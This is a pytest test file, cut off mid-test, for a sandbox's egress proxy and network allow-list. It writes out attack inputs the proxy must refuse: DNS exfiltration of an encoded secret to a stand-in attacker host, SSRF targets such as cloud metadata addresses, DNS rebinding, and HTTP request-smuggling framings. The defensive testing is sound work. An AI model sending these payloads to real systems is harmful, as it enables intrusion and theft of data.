"""The wall's network allow-list: the egress proxy (agent_code/confine/egress.py), the relay that
brings it into the sandbox (enter.py + relay_inside.py), and real bubblewrap around them.

Everything runs on real sockets on loopback (there is no internet here): a service on the
host's loopback stands for a site, and may be allowed only by naming ``127.0.0.1`` or
``localhost`` literally; names that must resolve somewhere are given a resolver of the test's
own (the DNS-rebinding tests count its calls). Each attack comes with the variants a clever
attacker tries next.
"""

from __future__ import annotations

import contextlib
import ipaddress
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from agent_code.confine.egress import (
    ENTER_SCRIPT,
    MAX_DECISIONS,
    PROXY_PORT,
    EgressProxy,
    Rule,
    address_problem,
    normalise_host,
    proxy_env,
    relay_prefix,
)

# ---- real servers on the host's loopback ------------------------------------------------------


class _Echo:
    """A TCP echo server on 127.0.0.1 (or another loopback address): what a tunnel reaches."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0, reply: bytes = b"") -> None:
        self.sock = socket.create_server((host, port))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.reply = reply
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        with conn:
            if self.reply:
                conn.sendall(self.reply)
            with contextlib.suppress(OSError):
                while data := conn.recv(65536):
                    conn.sendall(data)

    def close(self) -> None:
        self.sock.close()


class _HTTP:
    """A raw HTTP/1.1 server recording, per connection, the head and body of the one request it
    reads and every byte that came after it (``extra``: what a smuggler got through)."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.sock = socket.create_server((host, 0))
        self.port = self.sock.getsockname()[1]
        self.seen: list[dict] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        conn.settimeout(5)
        data = b""
        with conn, contextlib.suppress(OSError):
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    return
                data += chunk
            head, _, rest = data.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            headers = [tuple(x.strip() for x in line.split(":", 1)) for line in lines[1:]]
            fields = {k.lower(): v for k, v in headers}
            if fields.get("transfer-encoding") == "chunked":
                while b"0\r\n\r\n" not in rest:
                    rest += conn.recv(65536)
                body, _, rest = rest.partition(b"0\r\n\r\n")
                body += b"0\r\n\r\n"
            else:
                n = int(fields.get("content-length", 0))
                while len(rest) < n:
                    rest += conn.recv(65536)
                body, rest = rest[:n], rest[n:]
            record = {"line": lines[0], "headers": headers, "fields": fields, "body": body, "extra": rest}
            self.seen.append(record)
            answer = f"SAW {lines[0]} host={fields.get('host')}".encode()
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(answer), answer))
            conn.shutdown(socket.SHUT_WR)
            conn.settimeout(1)
            with contextlib.suppress(OSError):
                while more := conn.recv(65536):
                    record["extra"] += more

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def echo():
    server = _Echo()
    yield server
    server.close()


@pytest.fixture
def web():
    server = _HTTP()
    yield server
    server.close()


@contextlib.contextmanager
def _proxy(rules, **options):
    proxy = EgressProxy(rules, **options)
    proxy.start()
    try:
        yield proxy
    finally:
        proxy.close()


def _connect(proxy: EgressProxy) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(str(proxy.socket_path))
    return s


def _read_all(s: socket.socket) -> bytes:
    out = b""
    with contextlib.suppress(socket.timeout):
        while data := s.recv(65536):
            out += data
    return out


def ask(proxy: EgressProxy, raw: bytes) -> bytes:
    """Send ``raw`` to the proxy, half-close, read everything it answers."""
    with _connect(proxy) as s:
        s.sendall(raw)
        with contextlib.suppress(OSError):
            s.shutdown(socket.SHUT_WR)
        return _read_all(s)


def _wait_for(condition, timeout: float = 3) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.02)


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.") else 0


def body(answer: bytes) -> str:
    return answer.partition(b"\r\n\r\n")[2].decode("latin-1")


def open_tunnel(proxy: EgressProxy, target: str) -> tuple[socket.socket, bytes]:
    """A CONNECT to ``target``: the socket, and the proxy's answer's head (b"" if it hung up)."""
    s = _connect(proxy)
    head = b""
    with contextlib.suppress(OSError):
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        while b"\r\n\r\n" not in head:
            data = s.recv(1)
            if not data:
                break
            head += data
    return s, head


# ---- the proxy alone: what it lets through --------------------------------------------------

@pytest.mark.parametrize("rule,target", [("127.0.0.1", "127.0.0.1"), ("localhost", "localhost"),
                                         ("LocalHost.", "LOCALHOST."), ("127.0.0.1:{port}", "127.0.0.1")])
def test_an_allowed_connect_tunnels_bytes_both_ways(echo, rule, target):
    with _proxy([rule.format(port=echo.port)]) as proxy:
        s, head = open_tunnel(proxy, f"{target}:{echo.port}")
        with s:
            assert head.startswith(b"HTTP/1.1 200"), head
            payload = os.urandom(200_000)
            threading.Thread(target=s.sendall, args=(payload,), daemon=True).start()
            got = b""
            while len(got) < len(payload):
                got += s.recv(65536)
            assert got == payload
        decisions = proxy.decisions
    assert decisions[-1].allowed and decisions[-1].port == echo.port, decisions


def test_bytes_sent_with_the_connect_request_are_not_lost(echo):
    with _proxy(["127.0.0.1"]) as proxy, _connect(proxy) as s:
        s.sendall(f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\n\r\nearly bytes".encode())
        got = b""
        while not got.endswith(b"early bytes"):
            got += s.recv(100)
    assert got.startswith(b"HTTP/1.1 200") and got.endswith(b"\r\n\r\nearly bytes")


def test_a_plain_http_request_is_forwarded_in_origin_form(web):
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, f"GET http://127.0.0.1:{web.port}/a/b?c=d HTTP/1.1\r\nHost: 127.0.0.1:{web.port}\r\n"
                            f"Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\n"
                            f"X-Kept: yes\r\nConnection: X-Dropped\r\nX-Dropped: 1\r\n\r\n".encode())
    assert status(answer) == 200 and body(answer) == f"SAW GET /a/b?c=d HTTP/1.1 host=127.0.0.1:{web.port}"
    [seen] = web.seen
    names = {k.lower() for k, _ in seen["headers"]}
    assert "x-kept" in names and not names & {"proxy-authorization", "proxy-connection", "x-dropped"}
    assert seen["fields"]["connection"] == "close"


def test_a_post_body_is_forwarded_exactly(web):
    payload = b"x" * 100_000
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, f"POST http://127.0.0.1:{web.port}/up HTTP/1.1\r\nContent-Length: {len(payload)}\r\n\r\n"
                            .encode() + payload)
    assert status(answer) == 200 and web.seen[0]["body"] == payload


# ---- refused: the reason reaches the command ------------------------------------------------

def test_without_a_rule_everything_is_refused_with_a_reason_and_nothing_is_reached(echo, web):
    with _proxy(["registry.example"]) as proxy:
        tunnel = ask(proxy, f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\n\r\n".encode())
        plain = ask(proxy, f"GET http://127.0.0.1:{web.port}/ HTTP/1.1\r\n\r\n".encode())
        named = ask(proxy, b"CONNECT other.example:443 HTTP/1.1\r\n\r\n")
        decisions = proxy.decisions
    for answer in (tunnel, plain, named):
        assert status(answer) == 403, answer
        assert body(answer).count("\n") == 1 and "refused" in body(answer)
    assert "only when listed literally" in body(tunnel)
    assert "no network allow rule names other.example" in body(named)
    assert echo.accepted == 0 and web.seen == []
    assert [(d.host, d.allowed) for d in decisions] == [("127.0.0.1", False)] * 2 + [("other.example", False)]


def test_an_empty_allow_list_is_network_off(echo):
    with _proxy([]) as proxy:
        assert status(ask(proxy, f"CONNECT localhost:{echo.port} HTTP/1.1\r\n\r\n".encode())) == 403
    assert echo.accepted == 0


def test_a_refused_name_is_never_looked_up():
    """No lookup for a refused name: ``<secret>.attacker.example`` leaves no trace in DNS."""
    looked_up: list[str] = []
    with _proxy(["registry.example"], resolve=lambda h, p: looked_up.append(h) or []) as proxy:
        assert status(ask(proxy, b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n")) == 403
        assert status(ask(proxy, b"GET http://c2VjcmV0.attacker.example/ HTTP/1.1\r\n\r\n")) == 403
    assert looked_up == []


# ---- rules ------------------------------------------------------------------------------------

@pytest.mark.parametrize("rule,host,port,allowed", [
    ("registry.example", "registry.example", 443, True),
    ("registry.example", "REGISTRY.Example.", 80, True),
    ("Registry.Example.", "registry.example", 8080, True),
    ("registry.example", "www.registry.example", 443, False),
    ("registry.example", "registry.example.evil", 443, False),
    ("registry.example", "evilregistry.example", 443, False),
    ("*.git.example", "a.git.example", 443, True),
    ("*.git.example", "a.b.git.example", 443, True),
    ("*.git.example", "git.example", 443, False),
    ("*.git.example", "agit.example", 443, False),
    ("*.git.example", "a.git.example.evil", 443, False),
    ("*.git.example:443", "a.git.example", 22, False),
    ("registry.example:443", "registry.example", 444, False),
    ("bücher.example", "xn--bcher-kva.example", 443, True),
    ("xn--bcher-kva.example", "BÜCHER.example", 443, True),
    ("ｒｅｇｉｓｔｒｙ．example", "registry.example", 443, True),   # full-width forms fold (IDNA)
    ("*", "anything.example", 443, True),
    ("*", "localhost", 80, False),
    ("*", "127.0.0.1", 80, False),
    ("*:443", "anything.example", 80, False),
    ("127.0.0.1", "127.0.0.1", 1, True),
    ("127.0.0.1", "localhost", 1, False),
    ("localhost", "127.0.0.1", 1, False),
    ("::1", "[::1]", 1, True),
    ("[::1]:8080", "[0:0::1]", 8080, True),
    ("[::1]:8080", "[::1]", 8081, False),
    ("127.0.0.1", "[::ffff:127.0.0.1]", 1, False),
])
def test_rules_match_names_as_documented(rule, host, port, allowed):
    assert (EgressProxy([rule]).rule_for(host, port) is not None) is allowed


@pytest.mark.parametrize("rule", ["", "https://registry.example", "user@registry.example", "registry.*",
                                  "a*.example", "*.127.0.0.1", "127.1", "0x7f000001", "registry.example:0",
                                  "registry.example:99999", "registry.example:http", "[127.0.0.1]", "a..example",
                                  "bad_-host-.example.", "space .example", "*.", "1.2.3.4.5"])
def test_a_malformed_rule_is_an_error_at_construction(rule):
    with pytest.raises(ValueError, match="network allow rule"):
        EgressProxy([rule])


def test_a_string_is_not_taken_for_a_list_of_rules():
    with pytest.raises(TypeError):
        EgressProxy("registry.example")


# ---- attack: names and addresses that lead to this machine or its network ---------------------

@pytest.mark.parametrize("address", ["127.0.0.1", "127.5.6.7", "0.0.0.0", "10.1.2.3", "172.16.0.1", "192.168.1.1",
                                     "169.254.169.254", "100.64.0.1", "224.0.0.1", "239.255.255.250",
                                     "255.255.255.255", "240.0.0.1", "192.0.2.1", "::1", "::", "fe80::1", "fc00::1",
                                     "fd12::1", "fec0::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
                                     "::127.0.0.1", "2002:7f00:1::1", "2002:a01:203::1", "64:ff9b::7f00:1",
                                     "64:ff9b::a01:203", "64:ff9b:1::1", "2001:0:4136:e378:8000:63bf:3fff:fdd2",
                                     "2001:db8::1"])
def test_every_non_public_address_form_is_named(address):
    assert address_problem(ipaddress.ip_address(address)) is not None


@pytest.mark.parametrize("address", ["93.184.216.34", "8.8.8.8", "2606:4700:4700::1111", "::ffff:8.8.8.8",
                                     "64:ff9b::808:808"])
def test_a_public_address_passes(address):
    assert address_problem(ipaddress.ip_address(address)) is None


@pytest.mark.parametrize("answer", [["127.0.0.1"], ["93.184.216.34", "127.0.0.1"], ["::ffff:127.0.0.1"],
                                    ["::127.0.0.1"], ["169.254.169.254"], ["10.0.0.1", "93.184.216.34"],
                                    ["0.0.0.0"], ["fe80::1%eth0"], ["64:ff9b::7f00:1"], ["2002:7f00:1::"]])
def test_a_name_resolving_to_a_non_public_address_is_refused(echo, answer):
    """Every answer is checked before any is used: one loopback address among public ones is enough."""
    with _proxy(["*.example", "*"], resolve=lambda h, p: answer) as proxy:
        tunnel = ask(proxy, f"CONNECT rebind.example:{echo.port} HTTP/1.1\r\n\r\n".encode())
        plain = ask(proxy, f"GET http://rebind.example:{echo.port}/ HTTP/1.1\r\n\r\n".encode())
    for got in (tunnel, plain):
        assert status(got) == 403 and "rebind.example resolves to" in body(got), got
    assert echo.accepted == 0


def test_the_system_resolver_is_checked_too(echo):
    """A name this machine's own resolver (/etc/hosts here) maps to a loopback or private address."""
    name = next((n for n in (socket.gethostname(), "ip6-localhost", "localhost.localdomain")
                 if _non_public(n)), None)
    if name is None:
        pytest.skip("no name here resolves to a non-public address")
    with _proxy([name]) as proxy:
        answer = ask(proxy, f"CONNECT {name}:{echo.port} HTTP/1.1\r\n\r\n".encode())
    assert status(answer) == 403 and "resolves to" in body(answer) and echo.accepted == 0


def _non_public(name: str) -> bool:
    try:
        infos = socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)
    except OSError:
        return False
    return bool(infos) and any(address_problem(ipaddress.ip_address(i[4][0].partition("%")[0])) for i in infos)


def test_dns_rebinding_gets_nothing_the_name_is_resolved_once_and_the_checked_address_is_used():
    """The resolver answers a listed address the first time and 127.0.0.1 after that: the
    proxy must connect to what it checked (127.0.0.2, listed), never look the name up again."""
    try:
        listed = _Echo("127.0.0.2", reply=b"LISTED\n")
    except OSError:
        pytest.skip("no 127.0.0.2 on this machine's loopback")
    try:
        other = _Echo("127.0.0.1", listed.port, reply=b"OTHER\n")
    except OSError:
        listed.close()
        pytest.skip("the port is taken on 127.0.0.1")
    calls: list[str] = []

    def rebinding(host: str, port: int) -> list[str]:
        calls.append(host)
        return ["127.0.0.2"] if len(calls) == 1 else ["127.0.0.1"]

    try:
        with _proxy(["rebind.example", f"127.0.0.2:{listed.port}"], resolve=rebinding) as proxy:
            s, head = open_tunnel(proxy, f"rebind.example:{listed.port}")
            with s:
                assert head.startswith(b"HTTP/1.1 200"), head
                assert s.recv(100) == b"LISTED\n"
    finally:
        listed.close()
        other.close()
    assert calls == ["rebind.example"] and other.accepted == 0


@pytest.mark.parametrize("spelling", ["2130706433", "0177.0.0.1", "0x7f000001", "0x7F.0.0.1", "127.1", "127.0.1",
                                      "0x7f.1", "017700000001", "127.000.000.001", "127.0.0.01", "0177.1",
                                      "1.2.3.4.5", "anything.123", "anything.0x1"])
def test_ip_addresses_spelled_any_other_way_are_refused_whatever_the_rules(echo, spelling):
    with _proxy(["127.0.0.1", "*"]) as proxy:
        for request in (f"CONNECT {spelling}:{echo.port} HTTP/1.1\r\n\r\n",
                        f"GET http://{spelling}:{echo.port}/ HTTP/1.1\r\n\r\n"):
            answer = ask(proxy, request.encode())
            assert status(answer) == 400 and "dotted quad" in body(answer), answer
    assert echo.accepted == 0


@pytest.mark.parametrize("target", ["[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[::1]", "[0::1]",
                                    "127.0.0.2", "[::ffff:127.0.0.1%lo]", "[127.0.0.1]", "::1"])
def test_other_spellings_of_a_listed_loopback_address_are_not_that_address(echo, target):
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, f"CONNECT {target}:{echo.port} HTTP/1.1\r\n\r\n".encode())
    assert status(answer) in (400, 403), answer
    assert echo.accepted == 0


@pytest.mark.parametrize("host", ["localhost", "LOCALHOST", "localhost.", "foo.localhost", "a.b.localhost",
                                  "localhost.localhost"])
def test_localhost_is_reached_only_through_a_rule_naming_it(echo, host):
    with _proxy(["*", "*.localhost", "foo.localhost", "*.example"]) as proxy:
        answer = ask(proxy, f"CONNECT {host}:{echo.port} HTTP/1.1\r\n\r\n".encode())
    assert status(answer) == 403 and "this machine" in body(answer), answer
    assert echo.accepted == 0


def test_a_rule_naming_localhost_does_not_open_names_under_it(echo):
    with _proxy(["localhost"]) as proxy:
        assert status(ask(proxy, f"CONNECT a.localhost:{echo.port} HTTP/1.1\r\n\r\n".encode())) == 403
        s, head = open_tunnel(proxy, f"localhost:{echo.port}")
        s.close()
    assert head.startswith(b"HTTP/1.1 200") and echo.accepted == 1


# ---- attack: the authority, the Host header, the port ------------------------------------------

@pytest.mark.parametrize("request_line", [
    "CONNECT allowed.example@127.0.0.1:{port} HTTP/1.1",
    "CONNECT 127.0.0.1@evil.example:{port} HTTP/1.1",
    "CONNECT user:pass@127.0.0.1:{port} HTTP/1.1",
    "GET http://allowed.example@127.0.0.1:{port}/ HTTP/1.1",
    "GET http://127.0.0.1:{port}@evil.example/ HTTP/1.1",
    "GET http://127.0.0.1:{port}%40evil.example/ HTTP/1.1",
    "GET http://127.0.0.1:{port}\\@evil.example/ HTTP/1.1",
    "GET http://127.0.0.1%2e:{port}/ HTTP/1.1",
    "GET http://127.0.0.1:{port}:{port}/ HTTP/1.1",
    "GET http://127.0.0.1:+{port}/ HTTP/1.1",
    "CONNECT 127.0.0.1 HTTP/1.1",
    "CONNECT 127.0.0.1:{port}/x HTTP/1.1",
    "GET https://127.0.0.1:{port}/ HTTP/1.1",
    "GET ftp://127.0.0.1:{port}/ HTTP/1.1",
    "GET /not-a-proxy-request HTTP/1.1",
    "GET http:///path HTTP/1.1",
    "GET http://127.0.0.1:{port}/#frag HTTP/1.1",
    "GET  http://127.0.0.1:{port}/ HTTP/1.1",
    "GET http://127.0.0.1:{port}/ HTTP/2.0",
    "GET http://127.0.0.1:{port}/ HTTP/1.1 extra",
])
def test_userinfo_and_malformed_authorities_are_refused(echo, request_line):
    with _proxy(["127.0.0.1", "allowed.example", "*"]) as proxy:
        answer = ask(proxy, (request_line.format(port=echo.port) + "\r\n\r\n").encode())
    assert status(answer) == 400, answer
    if "@" in request_line and "\\@" not in request_line:
        assert "userinfo" in body(answer), answer
    assert echo.accepted == 0


@pytest.mark.parametrize("host_headers", [["evil.example"], ["127.0.0.1"], ["127.0.0.1:1"], ["127.0.0.1:{port}@evil"],
                                          ["127.0.0.1:{port}", "evil.example"], ["127.0.0.1:{port}", "127.0.0.1:{port}"],
                                          [""], ["localhost:{port}"]])
def test_a_host_header_that_differs_from_the_request_line_is_refused(web, host_headers):
    with _proxy(["127.0.0.1", "localhost", "*"]) as proxy:
        headers = "".join(f"Host: {h.format(port=web.port)}\r\n" for h in host_headers)
        answer = ask(proxy, f"GET http://127.0.0.1:{web.port}/ HTTP/1.1\r\n{headers}\r\n".encode())
    assert status(answer) == 400 and "Host header" in body(answer), answer
    assert web.seen == []


def test_the_same_host_spelled_differently_in_the_host_header_passes(web):
    with _proxy(["localhost"]) as proxy:
        answer = ask(proxy, f"GET http://localhost:{web.port}/ HTTP/1.1\r\nHost: LocalHost.:{web.port}\r\n\r\n".encode())
    assert status(answer) == 200 and web.seen[0]["fields"]["host"] == f"localhost:{web.port}"


def test_a_connect_to_an_allowed_name_on_another_port_is_refused(echo, web):
    with _proxy([f"127.0.0.1:{web.port}", f"localhost:{web.port}"]) as proxy:
        for target in (f"127.0.0.1:{echo.port}", f"localhost:{echo.port}"):
            answer = ask(proxy, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            assert status(answer) == 403 and f"only {web.port}" in body(answer), answer
        plain = ask(proxy, f"GET http://127.0.0.1:{echo.port}/ HTTP/1.1\r\n\r\n".encode())
        assert status(plain) == 403
        ok = ask(proxy, f"GET http://127.0.0.1:{web.port}/ HTTP/1.1\r\n\r\n".encode())
        assert status(ok) == 200
    assert echo.accepted == 0


# ---- attack: smuggling a second request on the same connection --------------------------------

def test_a_request_pipelined_after_a_body_never_reaches_anyone(web):
    second = web.__class__()
    try:
        smuggled = f"GET http://127.0.0.1:{second.port}/smuggled HTTP/1.1\r\nHost: 127.0.0.1:{second.port}\r\n\r\n"
        with _proxy([f"127.0.0.1:{web.port}", f"127.0.0.1:{second.port}"]) as proxy:
            answer = ask(proxy, (f"POST http://127.0.0.1:{web.port}/first HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"
                                 + smuggled).encode())
            decisions = proxy.decisions
    finally:
        second.close()
    assert status(answer) == 200 and answer.count(b"HTTP/1.1 200") == 1
    [seen] = web.seen
    assert seen["body"] == b"hello" and seen["extra"] == b"" and second.seen == []
    assert [d.port for d in decisions] == [web.port]


@pytest.mark.parametrize("framing,payload", [
    ("Transfer-Encoding: chunked", "5\r\nhello\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked", "5;ext=1\r\nhello\r\n0\r\nTrailer: x\r\n\r\n"),
    ("Transfer-Encoding: CHUNKED", "5\r\nhello\r\n0\r\n\r\n"),
])
def test_a_chunked_body_is_reframed_and_what_follows_it_is_dropped(web, framing, payload):
    smuggle = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, (f"POST http://127.0.0.1:{web.port}/ HTTP/1.1\r\n{framing}\r\n\r\n{payload}{smuggle}").encode())
    assert status(answer) == 200, answer
    [seen] = web.seen
    assert seen["body"] == b"5\r\nhello\r\n0\r\n\r\n" and seen["extra"] == b""


def test_a_pipelined_get_to_another_host_is_not_forwarded(web):
    with _proxy(["127.0.0.1", "*"]) as proxy:
        answer = ask(proxy, (f"GET http://127.0.0.1:{web.port}/one HTTP/1.1\r\n\r\n"
                             f"GET http://127.0.0.1:{web.port}/two HTTP/1.1\r\nHost: other.example\r\n\r\n").encode())
        decisions = proxy.decisions
    assert status(answer) == 200 and len(web.seen) == 1 and web.seen[0]["extra"] == b""
    assert len(decisions) == 1


@pytest.mark.parametrize("headers,code", [
    ("Content-Length: 5\r\nTransfer-Encoding: chunked", 400),
    ("Transfer-Encoding: chunked\r\nContent-Length: 5", 400),
    ("Content-Length: 5\r\nContent-Length: 5", 400),
    ("Content-Length: 5\r\nContent-Length: 50", 400),
    ("Content-Length: 5, 5", 400),
    ("Content-Length: +5", 400),
    ("Content-Length: 0x5", 400),
    ("Content-Length : 5", 400),
    ("Transfer-Encoding: chunked, identity", 501),
    ("Transfer-Encoding: gzip, chunked", 501),
    ("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", 501),
    ("Transfer-Encoding : chunked", 400),
    ("Transfer-Encoding:\tchunked\r\n folded: on", 400),
    ("X-Folded: a\r\n\tContent-Length: 5", 400),
    ("X-Bad: a\x00b", 400),
    ("X-Bad: a\rb", 400),
    ("X-Bad: a\nContent-Length: 5", 400),
])
def test_ambiguous_framing_and_malformed_headers_are_refused(web, headers, code):
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, f"POST http://127.0.0.1:{web.port}/ HTTP/1.1\r\n{headers}\r\n\r\nhello".encode())
    assert status(answer) == code, answer
    assert web.seen == []


def test_transfer_encoding_in_http_1_0_is_refused(web):
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, f"POST http://127.0.0.1:{web.port}/ HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n"
                            f"0\r\n\r\n".encode())
    assert status(answer) == 400 and web.seen == []


# ---- attack: exhausting the proxy -----------------------------------------------------------

@pytest.mark.parametrize("head", [b"GET http://127.0.0.1/ HTTP/1.1\r\nX-Big: " + b"a" * 40_000 + b"\r\n\r\n",
                                  b"GET http://127.0.0.1/" + b"a" * 40_000 + b" HTTP/1.1\r\n\r\n",
                                  b"GET http://127.0.0.1/ HTTP/1.1\r\n" + b"X-A: 1\r\n" * 150 + b"\r\n",
                                  b"CONNECT 127.0.0.1:1 HTTP/1.1\r\nX-Big: " + b"a" * 40_000])
def test_an_oversized_head_is_refused(head):
    with _proxy(["127.0.0.1"]) as proxy:
        answer = ask(proxy, head)
    assert status(answer) == 431, answer[:200]


def test_a_slow_loris_is_cut_off_at_the_head_deadline_even_when_it_trickles():
    with _proxy(["127.0.0.1"], header_timeout=0.5) as proxy:
        quiet = _connect(proxy)
        quiet.sendall(b"GET http://127.0.0.1/ HTTP/1.1\r\n")
        trickle = _connect(proxy)
        start = time.monotonic()
        answer = b""
        with contextlib.suppress(OSError):
            while time.monotonic() - start < 3:
                trickle.sendall(b"X-A: 1\r\n")
                trickle.settimeout(0.05)
                with contextlib.suppress(socket.timeout):
                    answer += trickle.recv(65536)
                if answer:
                    break
        elapsed = time.monotonic() - start
        quiet.settimeout(3)
        quiet_answer = _read_all(quiet)
        quiet.close()
        trickle.close()
    assert status(answer) == 408 and elapsed < 2, (answer, elapsed)
    assert status(quiet_answer) == 408


def test_connections_beyond_the_cap_are_turned_away_and_slots_come_back(echo):
    with _proxy(["127.0.0.1"], max_connections=4, header_timeout=0.5) as proxy:
        tunnels = [open_tunnel(proxy, f"127.0.0.1:{echo.port}") for _ in range(4)]
        assert all(head.startswith(b"HTTP/1.1 200") for _, head in tunnels)
        one_more = ask(proxy, f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\n\r\n".encode())
        assert status(one_more) == 503 and proxy.refused_connections == 1
        tunnels[0][0].close()
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            s, head = open_tunnel(proxy, f"127.0.0.1:{echo.port}")
            s.close()
            if head.startswith(b"HTTP/1.1 200"):
                break
            time.sleep(0.05)
        assert head.startswith(b"HTTP/1.1 200")
        for s, _ in tunnels[1:]:
            s.close()
        _wait_for(lambda: proxy.connections == 0)
        # idle connections that never send a head hold slots only until the head deadline
        idle = [_connect(proxy) for _ in range(4)]
        _wait_for(lambda: proxy.connections == 4)
        assert status(ask(proxy, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n")) == 503
        time.sleep(0.8)
        s, head = open_tunnel(proxy, f"127.0.0.1:{echo.port}")
        s.close()
        for s in idle:
            s.close()
    assert head.startswith(b"HTTP/1.1 200")


def test_an_idle_tunnel_is_closed(echo):
    with _proxy(["127.0.0.1"], idle_timeout=0.3) as proxy:
        s, head = open_tunnel(proxy, f"127.0.0.1:{echo.port}")
        with s:
            s.settimeout(3)
            start = time.monotonic()
            assert s.recv(10) == b"" and time.monotonic() - start < 2


def test_decisions_are_bounded_and_reported_as_they_happen():
    seen = []
    with _proxy(["registry.example"], on_decision=seen.append) as proxy:
        for i in range(MAX_DECISIONS + 20):
            ask(proxy, f"CONNECT host{i}.example:443 HTTP/1.1\r\n\r\n".encode())
        decisions = proxy.decisions
    assert len(decisions) == MAX_DECISIONS and len(seen) == MAX_DECISIONS + 20
    assert decisions[-1].host == f"host{MAX_DECISIONS + 19}.example" and not decisions[-1].allowed


# ---- the proxy's life -----------------------------------------------------------------------

def test_the_socket_is_private_and_close_ends_tunnels_and_removes_it(echo, tmp_path):
    proxy = EgressProxy(["127.0.0.1"], socket_dir=tmp_path)
    start = time.perf_counter()
    path = proxy.start()
    started = time.perf_counter() - start
    assert path.parent.parent == tmp_path and path.is_socket()
    assert path.parent.stat().st_mode & 0o777 == 0o700 and path.stat().st_mode & 0o077 == 0
    s, head = open_tunnel(proxy, f"127.0.0.1:{echo.port}")
    assert head.startswith(b"HTTP/1.1 200")
    start = time.perf_counter()
    proxy.close()
    closed = time.perf_counter() - start
    s.settimeout(3)
    assert s.recv(10) == b""
    s.close()
    assert not path.parent.exists() and started < 0.5 and closed < 2, (started, closed)
    proxy.close()   # idempotent
    with pytest.raises(OSError):
        _connect(proxy)


def test_a_socket_dir_too_deep_for_a_unix_address_still_works(echo, tmp_path):
    deep = tmp_path / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    with _proxy(["127.0.0.1"], socket_dir=deep) as proxy:
        assert len(str(proxy.socket_path)) > 108
        fd = os.open(proxy.socket_path.parent, os.O_PATH)
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(f"/proc/self/fd/{fd}/{proxy.socket_path.name}")
            s.sendall(f"CONNECT 127.0.0.1:{echo.port} HTTP/1.1\r\n\r\n".encode())
            assert s.recv(100).startswith(b"HTTP/1.1 200")
            s.close()
        finally:
            os.close(fd)


def test_the_helpers_for_the_wall():
    argv = relay_prefix(ENTER_SCRIPT, PROXY_PORT, Path("/run/x/proxy.sock"), python="/usr/bin/python3")
    assert argv == ["/usr/bin/python3", "-I", "-S", str(ENTER_SCRIPT), "--relay", "3128", "/run/x/proxy.sock", "--"]
    env = proxy_env(PROXY_PORT)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"):
        assert env[name] == "http://127.0.0.1:3128"
    assert set(env["NO_PROXY"].split(",")) >= {"localhost", "127.0.0.1"}


def test_normalise_host_is_what_rules_and_requests_share():
    assert normalise_host("Bücher.Example.") == ("xn--bcher-kva.example", None)
    assert normalise_host("[0:0:0:0:0:0:0:1]") == ("::1", ipaddress.ip_address("::1"))
    assert Rule.parse("*.Git.Example:443") == Rule("git.example", True, 443, None)


# ---- enter.py: the relay inside, with and without a sandbox ---------------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _processes_naming(text: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            with contextlib.suppress(OSError):
                if text.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    found.append(int(pid))
    return found


def test_enter_relays_then_leaves_no_relay_behind_and_holds_no_pipe(web):
    """On the host (no namespace: the relay's own watch must end it), the program reaches the
    proxy through 127.0.0.1:PORT; once the program is gone, so is the relay, and the command's
    output pipe closed with the program (communicate() returns)."""
    port = _free_port()
    with _proxy(["127.0.0.1"]) as proxy:
        script = (f"import socket; s = socket.create_connection(('127.0.0.1', {port}));"
